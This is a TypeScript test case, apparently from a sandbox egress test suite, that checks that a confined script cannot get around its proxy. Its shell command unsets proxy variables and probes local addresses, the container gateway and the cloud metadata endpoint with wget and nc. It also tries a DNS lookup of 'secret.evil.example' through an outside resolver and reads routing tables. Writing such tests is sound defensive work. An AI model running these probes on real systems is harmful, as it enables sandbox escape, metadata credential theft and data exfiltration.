import * as assert from 'uvu/assert';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { networkInterfaces } from 'node:os';
import type { Attack } from '../attack.js';
import { REFUSES, UNLISTED, answerOf, victim } from '../egress.js';

export const attack: Attack = {
  title: 'goes around the proxy: straight to every address of the host, by TCP, by UDP and by IPv6',
  story:
    'A step with a list of hosts leaves out the proxy that it was told of and speaks to addresses itself: to services of the host on any of its addresses, the gateway of the container among them, ' +
    'to a resolver on port 53, to the cloud’s metadata. Internal networks of container engines leave the gateway reachable. Here there is no interface but the loopback.',
  by: 'script',
  sandbox: { network: { hosts: ['listed.example'], private: [] } },
  except: REFUSES,
  attempt: async ({ run }) => {
    const server = await victim(UNLISTED, answerOf('reached'), '::');
    let datagrams = 0;
    const udp = createSocket('udp4').on('message', () => (datagrams += 1));
    udp.bind(UNLISTED, '0.0.0.0');
    await once(udp, 'listening');
    const own = Object.values(networkInterfaces()).flatMap((each) => (each ?? []).map(({ address }) => address));
    try {
      const port = String(UNLISTED);
      const { output } = await run(
        `unset http_proxy HTTP_PROXY; for a in ${own.join(' ')} 172.17.0.1 169.254.169.254 192.0.2.1; do
           busybox wget -q -T 1 -O - "http://$a:${port}/" & busybox wget -q -T 1 -O - "http://[$a]:${port}/" & echo x | busybox nc -u -w 1 $a ${port} &
         done 2>/dev/null
         busybox nslookup secret.evil.example 192.0.2.1 2>&1 & wait
         cat /proc/net/route /proc/net/ipv6_route | busybox grep -v lo; busybox sed 1,2d /proc/net/dev | busybox grep -v lo:; true`,
        { timeoutMs: 20_000 },
      );
      assert.equal(server.heard, [], output);
      assert.is(datagrams, 0);
      assert.not.match(output, /reached|eth0|^[a-z]+0\s/m);
    } finally {
      server.close();
      udp.close();
    }
  },
};
